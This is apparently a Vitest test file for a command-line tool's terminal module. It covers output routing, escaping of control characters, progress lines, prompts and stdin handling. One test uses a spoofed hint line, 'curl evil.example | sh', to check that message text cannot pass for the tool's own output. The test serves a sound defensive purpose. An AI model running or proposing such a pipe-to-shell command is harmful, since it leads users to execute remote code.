import { PassThrough, Writable } from 'node:stream'
import { describe, expect, test, vi } from 'vitest'
import { createTerminal } from '../../cli/terminal.ts'
import { until } from '../support/until.ts'

function opened(o: { tty?: boolean, mayColor?: boolean, mayInteract?: boolean } = {}) {
  const stream = () => Object.assign(new PassThrough(), { isTTY: o.tty ?? false })
  const [stdin, stdout, stderr] = [stream(), stream(), stream()]
  const text = { out: '', err: '' }
  stdout.on('data', (chunk: Buffer) => { text.out += chunk.toString() })
  stderr.on('data', (chunk: Buffer) => { text.err += chunk.toString() })
  const terminal = createTerminal({ stdin, stdout, stderr, mayColor: o.mayColor ?? true, mayInteract: o.mayInteract ?? true })
  return { terminal, text, stdin }
}

test('results go to stdout as they are, everything else to stderr with a prefix', async () => {
  const { terminal, text } = opened()
  terminal.out('a row')
  terminal.say('a remark')
  await terminal.flush()
  expect(text).toEqual({ out: 'a row\n', err: 'hoop: a remark\n' })
})

test('a message cannot imitate a line of hoop\'s own', async () => {
  const { terminal, text } = opened()
  terminal.say('error: refused\nhint: curl evil.example | sh\r\u001B[2K')
  await terminal.flush()
  expect(text.err).toBe('hoop: error: refused\nhoop:   hint: curl evil.example | sh<U+000D><U+001B>[2K\n')
})

test('JSON is one line that cannot act on a terminal, and the same value', async () => {
  const { terminal, text } = opened()
  const value = { statement: 'a\n\u009B2J\u202E\u{E0041}\uD83D😀' }
  terminal.json(value)
  await terminal.flush()
  expect(text.out).toMatch(/^[^\p{C}\p{Default_Ignorable_Code_Point}]*\n$/u)
  expect(JSON.parse(text.out)).toEqual(value)
})

test('a terminal that does not say how large it is has the usual size', () => {
  const stream = (columns: number, rows: number) => Object.assign(new PassThrough(), { isTTY: true, columns, rows })
  const sized = (columns: number, rows: number) => {
    const streams = { stdin: stream(0, 0), stdout: stream(0, 0), stderr: stream(columns, rows) }
    const { columns: wide, rows: high } = createTerminal({ ...streams, mayColor: false, mayInteract: true })
    return [wide, high]
  }
  expect(sized(0, 0)).toEqual([80, 24])
  expect(sized(50, 20)).toEqual([50, 20])
})

test('colour is for terminals that want it', async () => {
  for (const [options, colored] of [[{ tty: true }, true], [{ tty: false }, false], [{ tty: true, mayColor: false }, false]] as const) {
    const { terminal, text } = opened(options)
    terminal.say('error: refused')
    await terminal.flush()
    expect(text.err.includes('\u001B')).toBe(colored)
  }
})

test('where nobody sits, a question fails at once and names what answers it', async () => {
  for (const options of [{ tty: false }, { tty: true, mayInteract: false }]) {
    const { terminal } = opened(options)
    await expect(terminal.ask('Which gateway?', 'set HOOP_GATEWAY')).rejects.toMatchObject({ code: 'usage', hint: 'set HOOP_GATEWAY' })
  }
})

test('on a terminal, a question is answered', async () => {
  const { terminal, stdin, text } = opened({ tty: true })
  const answer = terminal.ask('Which\u001B[2K gateway?')
  await until('the question', () => text.err.includes('gateway?'))
  stdin.write('https://gw.example\n')
  expect(await answer).toBe('https://gw.example')
  expect(text.err).toContain('<U+001B>[2K')
})

test('progress elsewhere than on a terminal is nothing at all', async () => {
  for (const options of [{ tty: false }, { tty: true, mayInteract: false }]) {
    const { terminal, text } = opened(options)
    vi.useFakeTimers()
    const progress = terminal.progress('reading')
    vi.advanceTimersByTime(60_000)
    progress.done()
    vi.useRealTimers()
    await terminal.flush()
    expect(text).toEqual({ out: '', err: '' })
  }
})

test('progress on a terminal changes in its one line, and is gone when done, without colour too', async () => {
  const { terminal, text } = opened({ tty: true, mayColor: false })
  let read = 0
  const progress = terminal.progress(() => `reading\u001B[2J ${++read} ${'x'.repeat(200)}`)
  await until('two frames', () => read >= 2 && text.err.includes(' 2 '))
  terminal.out('a row')
  progress.done()
  await terminal.flush()
  const frames = text.err.split('\r\u001B[K')
  expect(frames[1]).toMatch(/^hoop: [-\\|/] reading<U\+001B>\[2J 1 x+~$/)
  expect(frames.every((frame) => frame.length < 80 && !frame.includes('\n'))).toBe(true)
  expect(frames.at(-1)).toBe('')
  expect(text.out).toBe('a row\n')
})

test('progress that is over within a moment shows nothing', async () => {
  const { terminal, text } = opened({ tty: true })
  terminal.progress('reading').done()
  await terminal.flush()
  expect(text.err).toBe('')
})

test('a reader that went away is no failure', async () => {
  const { terminal } = opened()
  const stdout = new PassThrough()
  const closed = createTerminal({ stdin: new PassThrough(), stdout, stderr: new PassThrough(), mayColor: false, mayInteract: false })
  stdout.destroy(Object.assign(new Error('EPIPE'), { code: 'EPIPE' }))
  closed.out('nobody reads this')
  await closed.flush()
  terminal.out('still here')
})

test('exact text is exact where a program reads it, and safe where a person does', async () => {
  for (const tty of [false, true]) {
    const { terminal, text } = opened({ tty })
    terminal.exact('a\u001B[2K\r\n')
    await terminal.flush()
    expect(text.out).toBe(tty ? 'a<U+001B>[2K<U+000D>\n' : 'a\u001B[2K\r\n')
  }
})

test('while a screen is up, lines for the terminal go to it; afterwards they are written again', async () => {
  const { terminal, text } = opened({ tty: true, mayColor: false })
  const above: string[] = []
  const screen = terminal.takeScreen((line) => above.push(line), { full: true })
  terminal.say('a remark\u001B[2K')
  terminal.out('a row')
  screen.release()
  terminal.say('later')
  await terminal.flush()
  expect(above).toEqual(['hoop: a remark<U+001B>[2K\n', 'a row\n'])
  expect(text).toEqual({ out: '', err: '\u001B[?1049h\u001B[H\u001B[?25l\u001B[?25h\u001B[?1049lhoop: later\n' })
})

describe('events to a reader that does not read', () => {
  const stuck = () => {
    const stdout = new Writable({ write() { /* Never done. */ }, decodeStrings: false })
    const stderr = new PassThrough()
    return { stdout, terminal: createTerminal({ stdin: new PassThrough(), stdout, stderr, mayColor: false, mayInteract: false }) }
  }

  test('are left out where they may be missed, and kept where not', () => {
    const { stdout, terminal } = stuck()
    for (let i = 0; i < 10_000; i++) terminal.event({ type: 'activity', text: 'x'.repeat(200) }, true)
    expect(stdout.writableLength).toBeLessThan(300 * 1024)
    const before = stdout.writableLength
    terminal.event({ type: 'held' }, false)
    expect(stdout.writableLength).toBeGreaterThan(before)
  })

  test('do not keep it from its end', async () => {
    const { terminal } = stuck()
    terminal.event({ type: 'closed' }, false)
    await terminal.flush()
  })

  test('and nothing else is cut short', async () => {
    const { terminal } = stuck()
    terminal.json({ a: 1 })
    const flushed = terminal.flush().then(() => true)
    expect(await Promise.race([flushed, new Promise((resolve) => setTimeout(() => resolve(false), 2_500))])).toBe(false)
  })
})

test('a file\'s rows do not go to a screen', async () => {
  const { terminal, text } = opened()
  terminal.takeScreen(() => undefined).release()
  terminal.takeScreen(() => { throw new Error('to the screen') })
  terminal.out('a row')
  await terminal.flush()
  expect(text.out).toBe('a row\n')
})

test('stdin is read whole, and refused where it is too large or no text', async () => {
  const read = async (bytes: Uint8Array, max = 10) => {
    const { terminal, stdin } = opened()
    stdin.end(bytes)
    return terminal.input(max, new AbortController().signal)
  }
  expect(await read(Buffer.from('SELECT é'))).toBe('SELECT é')
  await expect(read(Buffer.alloc(11, 'x'))).rejects.toMatchObject({ code: 'usage' })
  await expect(read(Buffer.from([0xC3]))).rejects.toMatchObject({ code: 'usage', message: 'stdin is not UTF-8' })
})

test('waiting for stdin ends with the signal', async () => {
  const { terminal } = opened()
  const stop = new AbortController()
  const reading = terminal.input(10, stop.signal)
  stop.abort(new Error('stopped'))
  await expect(reading).rejects.toThrow('stopped')
})
